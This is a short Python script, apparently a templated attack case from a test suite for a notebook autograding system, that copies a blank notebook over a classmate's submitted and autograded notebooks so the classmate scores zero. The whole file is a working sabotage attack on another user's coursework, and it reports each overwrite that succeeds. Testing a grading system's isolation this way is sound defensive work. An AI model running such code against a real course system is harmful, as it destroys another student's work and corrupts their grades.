# attack: writing a peer's notebook
# A blank notebook overwrites a classmate's submitted and autograded notebooks with its own
# blank copy, so that the classmate scores 0.
import shutil
from pathlib import Path

mine = Path(f"{__CHAPTER__}.ipynb")
for where in ("submitted", "autograded"):
    target = Path(__COURSE__) / where / "victim_full" / __CHAPTER__ / f"{__CHAPTER__}.ipynb"
    try:
        shutil.copy(mine, target)
        print("overwrote", target)
    except Exception as err:
        print("could not overwrite", target, type(err).__name__, err)
